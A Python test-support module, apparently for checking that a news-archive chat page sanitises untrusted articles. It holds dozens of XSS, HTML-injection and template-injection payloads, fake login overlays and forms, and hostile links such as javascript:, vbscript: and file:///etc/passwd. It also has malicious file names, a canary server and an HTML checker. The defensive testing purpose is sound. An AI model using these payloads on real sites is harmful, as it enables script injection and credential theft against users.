"""Texts that attack the page: whole ones for a browser, and the pieces they are made of; and a server that counts what a browser is made to fetch.

What the page does with them is not known here.
"""

import json
import threading
from contextlib import contextmanager
from html.parser import HTMLParser
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from urllib.parse import urlsplit

MARK = "data-pwned"
"""An attribute that every element of an attack carries: none with it may be in the page."""

RAN = "window.pwned=1"
"""What a script of an attack does beside what it is for."""


def payloads(elsewhere):
    """Attacks by name; each that can fetches `elsewhere/its name`, on one line and in less than 400 characters, which is what a title holds."""
    at, bare = elsewhere, elsewhere.partition(":")[2]
    run = f"fetch('{at}/script-%s');{RAN};alert(1)"
    return {
        "markdown-image": f"![chart]({at}/markdown-image)",
        "markdown-reference": f"![chart][r] [r]: {at}/markdown-reference",
        "markdown-script-link": f"[chart](javascript:{RAN})",
        "markdown-data-link": "[chart](data:text/html,<script>alert(1)</script>)",
        "autolink": f"<{at}/autolink>",
        "bare-address": f"see {at}/bare-address?q=secret",
        "img": f"<img {MARK} src='{at}/img'>",
        "img-unquoted": f"<img/{MARK}/src={at}/img-unquoted>",
        "img-protocol-relative": f"<img {MARK} src={bare}/img-protocol-relative>",
        "img-srcset": f"<img {MARK} srcset='{at}/img-srcset 1x'>",
        "img-error": f'<img {MARK} src=x: onerror="{run % "img-error"}">',
        "picture": f"<picture {MARK}><source srcset='{at}/picture'><img></picture>",
        "svg-image": f"<svg {MARK}><image href='{at}/svg-image' width=9 height=9 /></svg>",
        "svg-load": f'<svg {MARK} onload="{run % "svg-load"}"></svg>',
        "svg-use": f"<svg {MARK}><use href='{at}/svg-use#x' /></svg>",
        "math-style": f"<math><mtext><table><mglyph><style><img {MARK} src='{at}/math-style'></style></mglyph></table></mtext></math>",
        "iframe": f"<iframe {MARK} src='{at}/iframe'></iframe>",
        "iframe-srcdoc": f'<iframe {MARK} srcdoc="<img src={at}/iframe-srcdoc>"></iframe>',
        "object": f"<object {MARK} data='{at}/object'></object>",
        "embed": f"<embed {MARK} src='{at}/embed'>",
        "link-stylesheet": f"<link {MARK} rel=stylesheet href='{at}/link-stylesheet'>",
        "link-prefetch": f"<link {MARK} rel=prefetch href='{at}/link-prefetch'>",
        "meta-refresh": f"<meta {MARK} http-equiv=refresh content='0;url={at}/meta-refresh'>",
        "base": f"<base {MARK} href='{at}/base/'>",
        "form": f"<form {MARK} action='{at}/form'><input name=password autofocus><button>Log in again</button></form>",
        "button-formaction": f"<button {MARK} formaction='{at}/button'>Go on</button>",
        "input-image": f"<input {MARK} type=image src='{at}/input-image'>",
        "video-poster": f"<video {MARK} poster='{at}/video-poster'></video>",
        "video-source": f"<video {MARK} autoplay><source src='{at}/video-source'></video>",
        "audio": f"<audio {MARK} autoplay src='{at}/audio'></audio>",
        "style-url": f"<div {MARK} style=\"background:url('{at}/style-url');height:9px\">.</div>",
        "style-import": f"<style {MARK}>@import '{at}/style-import';</style>",
        "table-background": f"<table {MARK} background='{at}/table-background'><tr><td>.</table>",
        "overlay": f'<div {MARK} style="position:fixed;inset:0;z-index:99999;background:#fff">Log in again</div>',
        "details-toggle": f'<details {MARK} open ontoggle="{run % "details-toggle"}"><summary>.</summary></details>',
        "focus": f'<input {MARK} autofocus onfocus="{run % "focus"}">',
        "mouse": f'<b {MARK} onmouseover="{run % "mouse"}">chart</b>',
        "animation": f'<b {MARK} style="animation:dl-in 1ms" onanimationstart="{run % "animation"}">chart</b>',
        "script": f"<script {MARK}>{run % 'script'}</script>",
        "script-src": f"<script {MARK} src='{at}/script-src'></script>",
        "link-script": f'<a {MARK} href="javascript:{RAN}">chart</a>',
        "link-script-entity": f'<a {MARK} href="jav&#x09;ascript&colon;{RAN}">chart</a>',
        "link-vbscript": f'<a {MARK} href="vbscript:msgbox(1)">chart</a>',
        "link-data": f'<a {MARK} href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">chart</a>',
        "entities": f"&lt;img {MARK} src=&quot;{at}/entities&quot;&gt; &#60;img src={at}/entities&#62;",
        "full-width": f"＜img {MARK} src＝'{at}/full-width'＞ \u003cimg {MARK} src='{at}/full-width'\u003e",
        "katex": f"$\\href{{javascript:{RAN}}}{{x}}$ $$\\includegraphics{{{at}/katex}}$$ \\(\\url{{{at}/katex}}\\)",
        "mermaid": f'```mermaid graph TD; A["<img src={at}/mermaid>"]; click A "javascript:{RAN}" ```',
        "template-dollar": f"${{fetch('{at}/template-dollar')}} ${{{RAN}}}",
        "template-braces": f"{{{{constructor.constructor(`fetch('{at}/template-braces')`)()}}}} {{@html '<img src={at}/template-braces>'}}",
        "breakout-double": f'"><img {MARK} src="{at}/breakout-double">',
        "breakout-single": f"'><img {MARK} src='{at}/breakout-single'>",
        "breakout-attribute": f'" onmouseover="{run % "breakout-attribute"}" autofocus onfocus="{RAN}" x="',
        "breakout-element": f"</mark></blockquote></section></aside></article></pre><img {MARK} src='{at}/breakout-element'>",
        "breakout-title": f"</title></textarea></style></script><img {MARK} src='{at}/breakout-title'>",
        "comment": f"<!--><img {MARK} src='{at}/comment'>-->",
        "long-word": "W" * 10_000,
        "directions": f"\u202e\u2066gpj.\u200b\x00\x07 <img {MARK} src='{at}/directions'>",
    }


LINKS = {
    "script": "javascript:window.pwned=1",
    "script-cased": " JaVaScRiPt:window.pwned=1",
    "script-tab": "java\tscript:window.pwned=1",
    "data": "data:text/html,<script>window.pwned=1</script>",
    "vbscript": "vbscript:msgbox(1)",
    "blob": "blob:http://127.0.0.1/x",
    "file": "file:///etc/passwd",
    "view-source": "view-source:http://127.0.0.1/",
    "relative": "//127.0.0.1/x",
    "user": "http://user:password@127.0.0.1@evil.invalid/",
    "breakout": "https://news.invalid/\"onmouseover='window.pwned=1'x=\"",
    "markup": "https://news.invalid/<img src=x onerror=window.pwned=1>",
}
"""Addresses that an article can say it came from."""


class _Canary(BaseHTTPRequestHandler):
    def do_GET(self):
        self.server.hits.append(self.path)
        self.send_response(204)
        self.end_headers()

    do_POST = do_HEAD = do_OPTIONS = do_GET  # noqa: N815 - the server's own names

    def log_message(self, *_):
        pass


@contextmanager
def canary():
    """A server on another port: its address, and every path that was asked for (`hits`)."""
    with ThreadingHTTPServer(("127.0.0.1", 0), _Canary) as server:
        server.daemon_threads, server.hits = True, []
        threading.Thread(target=server.serve_forever, args=(0.02,), daemon=True).start()
        server.address = f"http://127.0.0.1:{server.server_port}"
        yield server
        server.shutdown()


SUBJECTS = (
    "Marlin Heron Osprey Kestrel Plover Curlew Gannet Tern Petrel Fulmar Dunlin Avocet Bittern Merlin Wigeon Teal Smew Eider Scoter Godwit".split()
)


def ship(number):
    """A ferry of its own for every attack, so that a question finds its article."""
    return f"{SUBJECTS[number % len(SUBJECTS)]} {SUBJECTS[number // len(SUBJECTS)]}"


def archive_of(attacks, folder):
    """Files to ingest, an article for each attack, which stands in every place where an article can put it."""
    links, rows = list(LINKS.values()), []
    for number, (name, attack) in enumerate(attacks.items()):
        told = f"The ferry {ship(number)} carried {number + 200} passengers across the sound on Monday. Captain Dunmore said of it: {attack}"
        row = {"id": f"{name} {attack[:300]}", "outlet": attack, "title": attack, "byline": attack, "published": f"2031-01-{number % 28 + 1:02d}"}
        # Half of them come from addresses that attack by themselves; of the others the attack is the address.
        row["url"] = links[number % len(links)] if number % 2 else attack
        rows.append(json.dumps({**row, "text": f"{told}\n\nThe ferry {ship(number)} is to be painted green. {attack}"}))
    folder.mkdir()
    (folder / "ferries.jsonl").write_text("\n".join(rows) + "\n", encoding="utf-8")
    for number, name in enumerate(
        ("<img src=x onerror=alert(1)>.txt", '"onfocus="alert(1)" autofocus x=".txt', "${alert(1)}{{7*7}}`x`.md", "a\u202etxt.exe.txt")
    ):
        (folder / name).write_text(f"Harbour master Quill counted {number + 60} gulls on the quay.\n", encoding="utf-8")
    return folder


PIECES = [
    "Nine people died.",
    "The mayor said so [1].",
    " ",
    "\n",
    "\n\n",
    "[1]",
    "[2]",
    "[99]",
    "[[9]1]",
    "[",
    "]",
    "(",
    ")",
    "!",
    "<",
    ">",
    "</",
    "/>",
    '"',
    "'",
    "=",
    "&",
    ";",
    "&lt;",
    "&#60;",
    "&#x3c;",
    "$",
    "${",
    "{{",
    "}}",
    "{",
    "}",
    "`",
    "```",
    "```mermaid",
    "\\(",
    "\\)",
    "$$",
    "\\href{",
    "#",
    "|",
    "*",
    "_",
    "~~",
    "-->",
    "<!--",
    "]]>",
    "<![CDATA[",
    "![chart](",
    "![chart][r]",
    "[r]: ",
    "[chart](",
    "http://evil.invalid/a.png?q=1",
    "https://evil.invalid",
    "//evil.invalid/x",
    "<http://evil.invalid>",
    "www.evil.invalid",
    "javascript:alert(1)",
    "data:text/html,x",
    "<img src=",
    "<img",
    " src=x",
    " onerror=alert(1)",
    " style='position:fixed'",
    "<svg/onload=alert(1)>",
    "<script>",
    "</script>",
    "<style>",
    "<iframe src=",
    "<form action=",
    "<input",
    "<a href=",
    "<base href=",
    "<meta http-equiv=refresh",
    "</p>",
    "</div>",
    "</article>",
    "</mark>",
    "<br>",
    "<p>",
    "<think>",
    "</think>",
    "\u202e",
    "\u200b",
    "\x00",
    "\x1b]0;x\x07",
    "\U0001f600",
    "\ufeff",
    "ＡＢ＜",
    "W" * 60,
]
"""What attacks are made of; put together at random they make others."""


TALK = frozenset("article aside bdi blockquote br button details div h1 h2 header li mark p pre section span summary time ul a".split())
"""The elements that a conversation on the page is made of."""

_HARMLESS = frozenset("class id href target rel title role tabindex dir hidden type".split())


class _Reader(HTMLParser):
    def __init__(self, hosts):
        super().__init__(convert_charrefs=True)
        self.hosts, self.wrong, self.text = hosts, [], []

    def handle_starttag(self, tag, attrs):
        if tag not in TALK:
            self.wrong.append(f"<{tag}>")
        for name, value in attrs:
            if name == MARK or not (name in _HARMLESS or name.startswith(("data-", "aria-"))):
                self.wrong.append(f"{tag} {name}")
            if name == "href" and not (value or "").startswith("#"):
                parts = urlsplit(value or "")
                if parts.scheme not in {"http", "https"} or parts.hostname not in self.hosts:
                    self.wrong.append(f"href {value}")

    def handle_data(self, data):
        self.text.append(data)

    def handle_comment(self, data):
        self.wrong.append(f"<!--{data}")

    def handle_decl(self, decl):
        self.wrong.append(f"<!{decl}")

    def unknown_decl(self, data):
        self.wrong.append(f"<![{data}")

    def handle_pi(self, data):
        self.wrong.append(f"<?{data}")


def read(markup, hosts=frozenset()):
    """What is not ours in a piece of the page's HTML (elements, attributes, addresses that lead to other hosts than these), and its text."""
    reader = _Reader(hosts)
    reader.feed(markup)
    reader.close()
    return reader.wrong, "".join(reader.text)
